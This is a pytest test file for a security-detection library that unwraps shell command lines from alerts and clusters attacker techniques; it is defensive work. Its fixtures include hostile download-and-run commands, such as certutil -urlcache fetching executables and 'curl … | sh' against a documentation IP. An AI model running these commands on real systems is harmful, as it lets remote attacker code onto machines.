"""What was really run in alerts: unwrapped from its shell, grouped by what it was told, whoever it was."""

from datetime import UTC, date, datetime
from typing import Any

import polars as pl
import pytest

from longtail.detections.generalise import UNKNOWN, Deed, carried, clusters, deeds, with_kin
from longtail.detections.legitimate import STARTS

NOW = datetime(2026, 3, 4, 5, tzinfo=UTC)
S32 = "C:\\Windows\\System32\\"
KNOWN = frozenset({"certutil.exe", "svchost.exe", "rundll32.exe", "explorer.exe", "csc.exe"})


def deed(image: str, line: str, **changes: Any) -> Deed:
    told = {
        "day": NOW.date(), "tenant": "t", "host": "h", "account": "a", "account_class": "mssql", "parent_image": "",
        "alert": "1", "severity": 3, "time": NOW,
    }  # fmt: skip
    return Deed(**{**told, "image": image, "command_line": line, **changes})


def alert(**changes: Any) -> dict[str, Any]:
    execution = {"time": "2026-03-04T05:00:00Z", "image": S32 + "certutil.exe", "executable": "", "hosted_by": None,
                 "command_line": "certutil -f", "parent_image": None, "role": "anomaly"}  # fmt: skip
    return {"id": "1", "tenant": "t", "account": "a", "account_class": "mssql", "host": "H", "severity": "high",
            "executions": [execution, {**execution, "role": "context", "command_line": "x"}], **changes}  # fmt: skip


def test_objects_of_a_hunt_are_read_back() -> None:
    found, quarantined = deeds([alert()])
    assert [(each.host, each.command_line, each.severity, each.day) for each in found] == [
        ("h", "certutil -f", 3, date(2026, 3, 4))
    ]
    assert not quarantined


@pytest.mark.parametrize(
    "bad",
    [{}, {"executions": 3}, alert(severity="!"), alert(host=7), alert(executions=[{"role": "anomaly", "image": 1}])],
)
def test_what_is_no_alert_is_told_with_its_place_and_the_others_are_used(bad: dict[str, Any]) -> None:
    found, quarantined = deeds([bad, alert()])
    assert len(found) == 1
    assert [each.place for each in quarantined] == ["alert 1"]


def test_one_start_counts_once_however_many_files_it_carried() -> None:
    execution = alert()["executions"][0]
    found, _ = deeds([alert(executions=[execution, {**execution, "executable": "x", "hosted_by": "cmd.exe"}])])
    assert len(found) == 1


def test_what_a_shell_carries_and_the_process_that_it_became() -> None:
    shell = deed(S32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" /c CERTutil -urlcache http://a/b c.exe & echo x>y')
    assert carried(shell) == ("certutil -urlcache http://a/b c.exe",)
    child = {"tenant": "t", "host": "H", "account": "a", "account_class": "mssql", "day": NOW.date(),
             "image": S32 + "certutil.exe", "command_line": "CERTutil  -urlcache http://a/b c.exe",
             "parent_image": S32 + "cmd.exe", "parent_command_line": None, "runs": 1}  # fmt: skip
    elsewhere = {**child, "host": "other"}
    found = with_kin([shell], pl.DataFrame([child, elsewhere], schema=STARTS, orient="row"))
    assert sorted(each.name for each in found) == ["certutil.exe", "cmd.exe"]


def test_the_shell_that_started_a_deed_is_one_too() -> None:
    line = "sh -c curl -s http://198.51.100.7/a | sh"
    below = deed("/usr/bin/curl", "curl -s http://198.51.100.7/a")
    row = {"tenant": "t", "host": "h", "account": "a", "account_class": "postgres", "day": NOW.date(),
           "image": below.image, "command_line": below.command_line, "parent_image": "/usr/bin/dash",
           "parent_command_line": line, "runs": 1}  # fmt: skip
    daemon = {**row, "parent_image": "/usr/lib/postgresql/15/bin/postgres", "parent_command_line": "postgres -D"}
    found = with_kin([below], pl.DataFrame([row, daemon], schema=STARTS, orient="row"))
    assert sorted(each.command_line for each in found) == [below.command_line, line]


def test_one_technique_over_hosts_accounts_and_tenants_is_one_cluster() -> None:
    found = [
        deed(S32 + "certutil.exe", f"certutil {dash}URLcache -f {url} {place}", tenant=tenant, account=account)
        for dash, url, place, tenant, account in [
            ("-", "http://1.2.3.4/a", "C:\\Users\\Public\\a.exe", "t", "a"),
            ("/", "https://x.example/b", "C:\\ProgramData\\b.exe", "u", "b"),
        ]
    ]
    other = deed(S32 + "certutil.exe", "certutil -decode a b")
    assert [
        (each.program, each.core and each.core.name, len(each.deeds)) for each in clusters([*found, other], KNOWN)
    ] == [
        ("certutil", "certutil_decode", 1),
        ("certutil", "certutil_fetch", 2),
    ]


def test_a_name_that_attackers_chose_is_no_program() -> None:
    (cluster,) = clusters([deed("C:\\Users\\Public\\Svn.exe", "Svn.exe")], KNOWN)
    assert cluster.program == UNKNOWN and cluster.core is None


@pytest.mark.parametrize(
    ("image", "displaced"),
    [
        ("C:\\Windows\\System33\\svchost.exe", True),
        ("C:\\Users\\Public\\svchost.exe", True),
        ("C:\\Windows \\System32\\svchost.exe", True),
        (S32 + "svchost.exe", False),
        ("c:\\windows\\syswow64\\svchost.exe", False),
        ("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", False),
        ("svchost.exe", False),
    ],
)
def test_a_system_programs_name_in_another_place(image: str, displaced: bool) -> None:
    (cluster,) = clusters([deed(image, "x")], KNOWN)
    assert cluster.out_of_place is displaced
